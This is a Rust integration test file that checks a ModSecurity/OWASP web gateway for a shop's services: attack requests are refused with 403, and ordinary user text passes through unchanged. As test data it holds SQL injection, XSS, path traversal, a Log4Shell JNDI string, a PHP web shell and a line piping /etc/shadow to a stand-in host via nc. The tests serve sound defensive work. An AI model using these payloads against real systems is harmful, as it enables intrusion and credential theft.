//! The OWASP core rules as they are shipped: attacks are refused, and whatever people write to each other is not one.

use std::path::Path;

use anyhow::{Context, Result, ensure};
use serde_json::json;
use testkit::Gateway;

use super::client::{ask, get};
use super::copy::{Copy, Deed};
use super::{INSIDE, expect_nothing};

const MODULE: &str = "/usr/lib/nginx/modules/ngx_http_modsecurity_module.so";

/// Whether there is anything to test with. Where `CI` is `true`, that it is missing is a failure.
fn has_rules() -> Result<bool> {
    if std::env::var("JANGTEO_GATEWAY_WAF").is_ok_and(|waf| waf == "no") {
        eprintln!("not run: JANGTEO_GATEWAY_WAF=no");
        return Ok(false);
    }
    let is_there = Path::new(MODULE).exists();
    let in_ci = std::env::var("CI").is_ok_and(|ci| ci == "true");
    ensure!(is_there || !in_ci, "ModSecurity is not installed: tests/servers.sh install modsecurity");
    if !is_there {
        eprintln!("not run: ModSecurity is not installed: tests/servers.sh install modsecurity");
    }
    Ok(is_there)
}

async fn guarded() -> Result<(Copy, Gateway)> {
    let service = Copy::start(|_| Deed::say("fine")).await?;
    let ports = [service.port];
    let gateway = Gateway::alone([&ports, &ports, &ports], &[], true).await?;
    Ok((service, gateway))
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "about the gateway of micro-services: tests/shapes.sh"]
async fn attacks_are_refused_before_any_service_hears_of_them() -> Result<()> {
    if !has_rules()? {
        return Ok(());
    }
    let (service, gateway) = guarded().await?;
    let scanner = "User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\n";
    let injected = r#"{"items": [{"itemId": "1' UNION SELECT password FROM accounts--", "count": 1}]}"#;
    let login = r#"{"email": "a' OR '1'='1' -- ", "password": "x", "type": "CUSTOMER"}"#;
    let undeclared = r#"{"email": "<script>alert(document.cookie)</script>", "type": "CUSTOMER"}"#;
    for (line, headers, body) in [
        ("GET /search/product/detail?productId=1%27%20OR%20%271%27=%271", "", ""),
        ("GET /search/product?name=a&sort=priceAsc;DROP%20TABLE%20products--", "", ""),
        ("GET /search/product?sellerId=1%20UNION%20SELECT%20password%20FROM%20accounts", "", ""),
        ("GET /search/product?sort=%3Cscript%3Ealert(1)%3C/script%3E", "", ""),
        ("GET /search/suggest?limit=../../../../etc/passwd", "", ""),
        ("GET /search/product?sort=..%2f..%2f..%2fetc%2fpasswd", "", ""),
        ("GET /search/product?sort=$(cat%20/etc/passwd)", "", ""),
        ("POST /accounts/user/info?email=%3Cimg%20src=x%20onerror=alert(1)%3E", "", ""),
        ("DELETE /seller/product?productId=1%20OR%20SLEEP(5)", "", ""),
        ("GET /customer/orders?status=PAID%27%20AND%201=1%20UNION%20SELECT%20NULL--", "", ""),
        ("GET /chat/1?limit=%3Cscript%3Ealert(1)%3C/script%3E", "", ""),
        ("GET /customer/cart", scanner, ""),
        ("GET /search/product", "User-Agent: Nikto/2.1.6\r\n", ""),
        ("POST /customer/cart", "Content-Type: application/json\r\n", injected),
        ("PUT /customer/cart", "Content-Type: application/json\r\n", injected),
        ("POST /customer/cart", "Content-Type: text/plain\r\n", injected),
        ("POST /accounts/login", "Content-Type: application/json\r\n", login),
        ("POST /accounts/password/reset", "Content-Type: application/json\r\n", undeclared),
    ] {
        let reply = ask(gateway.port(), line, headers, body).await?;
        let problem = reply.expect_refusal(403, "REQUEST_REFUSED").with_context(|| line.to_owned())?;
        ensure!(problem["detail"] == "이 요청은 안전하지 않아 보여 받지 않았습니다.", "{problem}");
        let english = format!("Accept-Language: en\r\n{headers}");
        let problem =
            ask(gateway.port(), line, &english, body).await?.expect_refusal(403, "REQUEST_REFUSED")?;
        ensure!(problem["detail"] == "The request looks unsafe and was refused.", "{problem}");
    }
    ensure!(service.heard().is_empty(), "{:?}", service.lines());
    // Without the disguise they are welcome.
    for path in
        ["/search/product/detail?productId=1", "/search/product?name=a&sort=priceAsc", "/customer/cart"]
    {
        ensure!(get(gateway.port(), path).await?.status == 200, "{path}");
    }
    Ok(())
}

/// What people write.
const TEXTS: &[&str] = &[
    "1' OR '1'='1' -- ; DROP TABLE products; SELECT * FROM accounts UNION SELECT 1,2,3",
    "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>",
    "../../../../etc/passwd 와 C:\\windows\\system32\\cmd.exe /c dir; cat /etc/shadow | nc evil 1",
    "${jndi:ldap://evil.example/a} java.lang.Runtime.getRuntime().exec('id') <?php system($_GET['x']); ?>",
    "GET /internal HTTP/1.1\r\nHost: x\r\nSet-Cookie: session=1",
    "여우비 순면 이불 🦊💤 — \"반값\"! O'Brien's 50% off; 가격은 1,000원 & 배송비 0원 (=무료) #할인",
    "ㅋㅋㅋ ㅠㅠ 😀😀 --- *** /* 정말? */ %27 %00 \u{0}\u{7f}",
];

#[tokio::test(flavor = "multi_thread")]
#[ignore = "about the gateway of micro-services: tests/shapes.sh"]
async fn whatever_people_write_comes_to_the_services_as_it_is() -> Result<()> {
    if !has_rules()? {
        return Ok(());
    }
    let (service, gateway) = guarded().await?;
    for text in TEXTS {
        let item = json!({"name": text, "price": 1, "count": 1});
        let shipping = json!({"recipient": text, "address1": text, "memo": text});
        for (line, body) in [
            ("POST /seller/product", json!({"name": text, "description": text, "items": [item, item]})),
            ("PUT /seller/product", json!({"id": 1, "name": text, "description": text, "items": [item]})),
            ("POST /seller/product/item", item.clone()),
            ("POST /chat/invite", json!({"name": text, "users": []})),
            ("POST /chat/018f/messages", json!({"clientMessageId": "018f", "content": text})),
            ("POST /customer/orders", json!({"items": [], "shipping": shipping})),
            ("POST /customer/orders/018f/return", json!({"reason": text})),
            ("POST /seller/orders/018f/cancel", json!({"reason": text})),
            ("POST /seller/orders/018f/ship", json!({"carrier": text, "trackingNumber": text})),
            ("POST /accounts/customer/signup", json!({"name": text, "password": text})),
            ("PUT /accounts/seller/update", json!({"name": text, "password": text, "currentPassword": text})),
            ("POST /accounts/customer/balance", json!({"from": text, "message": text, "money": 1})),
            ("POST /accounts/login", json!({"email": "o'brien+1@example.co.kr", "password": text})),
            ("POST /accounts/password/reset/confirm", json!({"token": "a--b", "password": text})),
            ("DELETE /accounts/customer", json!({"password": text})),
        ] {
            let body = body.to_string();
            passes(&service, &gateway, line, "Content-Type: application/json\r\n", &body).await?;
        }
        let bytes: Vec<_> =
            text.bytes().filter(|byte| *byte != 0).map(|byte| format!("%{byte:02X}")).collect();
        let encoded = bytes.concat();
        for path in ["/search/product?limit=5&name=", "/search/suggest?name="] {
            let line = format!("GET {path}{encoded}");
            let referer = format!("Referer: http://shop.example/?name={encoded}\r\n");
            passes(&service, &gateway, &line, &referer, "").await?;
        }
    }
    Ok(())
}

async fn passes(service: &Copy, gateway: &Gateway, line: &str, headers: &str, body: &str) -> Result<()> {
    let reply = loop {
        let reply = ask(gateway.port(), line, headers, body).await?;
        if reply.status != 429 {
            break reply;
        }
        // It is about the rules here, not about the limits.
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    };
    ensure!((reply.status, reply.body.as_str()) == (200, "fine"), "{line}: {body}: {reply:?}");
    let heard = service.heard().pop().context("nothing was heard")?;
    ensure!(heard.line() == line && heard.body == body.as_bytes(), "{line}: {heard:?}");
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "about the gateway of micro-services: tests/shapes.sh"]
async fn ordinary_requests_pass_in_all_their_forms() -> Result<()> {
    if !has_rules()? {
        return Ok(());
    }
    let (service, gateway) = guarded().await?;
    let token = "Authorization: Bearer eyJhbGciOiJFZERTQSIsImtpZCI6ImEifQ.eyJzdWIiOiIxIn0.a--b__c-/*d*/\r\n";
    for (line, headers, body) in [
        ("GET /search/product?cursor=eyJhIjoxfQ--_-&limit=20&sort=newest&minPrice=1000&inStock=true", "", ""),
        ("POST /accounts/customer", token, ""),
        ("PATCH /accounts/customer/balance", token, ""),
        ("GET /accounts/customer/verify/shop@example.com", "", ""),
        ("POST /accounts/customer/info?email=o%27brien%2Bshop%40example.co.kr", token, ""),
        ("GET /accounts/customer/verify/gZ3--x_Q9-select-1", "Accept: text/html\r\n", ""),
        (
            "POST /accounts/customer/verify/gZ3--x_Q9-select-1",
            "Content-Type: application/x-www-form-urlencoded\r\n",
            "",
        ),
        ("GET /accounts/password/reset?token=gZ3--x_Q9-select-1", "Accept: text/html\r\n", ""),
        (
            "POST /accounts/password/reset",
            "Content-Type: application/x-www-form-urlencoded\r\n",
            "token=gZ3--x_Q9&password=%27+or+1%3D1%3B+drop+table+users+--",
        ),
        (
            "POST /accounts/logout",
            "Content-Type: application/json\r\n",
            r#"{"refreshToken": "a--b;--'or 1=1"}"#,
        ),
        (
            "PUT /customer/cart",
            "Content-Type: application/json\r\n",
            r#"{"items": [{"itemId": 1, "count": 0}]}"#,
        ),
        // The services answer these themselves: 415, 400, 422.
        ("POST /customer/cart", "Content-Type: application/x-www-form-urlencoded\r\n", "items=1"),
        ("POST /customer/cart", "Content-Type: application/json\r\n", "{\"items\": ["),
        ("POST /customer/cart", "", ""),
        (
            "OPTIONS /customer/cart",
            "Origin: http://shop.example\r\nAccess-Control-Request-Method: PUT\r\n",
            "",
        ),
        ("GET /ws?access_token=eyJhbGciOiJFZERTQSJ9.a--b.c", "", ""),
        ("GET /app/app.js", "User-Agent: curl/8\r\nReferer: http://shop.example/app/\r\n", ""),
    ] {
        passes(&service, &gateway, line, headers, body).await?;
    }
    // Without a length, as curl posts nothing.
    let bare = "POST /accounts/seller HTTP/1.1\r\nHost: 127.0.0.1:8080\r\nConnection: close\r\n\r\n";
    let reply = super::client::send_bytes(gateway.port(), bare.as_bytes()).await?;
    ensure!(reply.starts_with("HTTP/1.1 200 "), "{reply}");
    // What is nobody's, or no request at all, is refused as it is without the rules.
    for path in INSIDE {
        expect_nothing(&get(gateway.port(), path).await?)?;
    }
    get(gateway.port(), &format!("/x?{}", "x".repeat(20 << 10)))
        .await?
        .expect_refusal(413, "PAYLOAD_TOO_LARGE")?;
    let large = ask(gateway.port(), "POST /chat/1/messages", "", &"x".repeat(1 << 20)).await?;
    large.expect_refusal(413, "PAYLOAD_TOO_LARGE")?;
    Ok(())
}
